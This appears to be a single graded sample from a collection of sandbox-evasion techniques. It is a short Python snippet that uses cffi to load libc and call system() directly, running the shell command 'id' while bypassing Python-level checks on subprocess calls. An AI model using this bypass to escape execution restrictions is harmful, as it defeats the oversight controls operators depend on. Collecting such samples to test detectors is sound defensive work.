# evasion: cffi opens libc
# grade: medium; does: native
from cffi import FFI
ffi = FFI()
ffi.cdef("int system(const char *);")
ffi.dlopen(None).system(b"id")
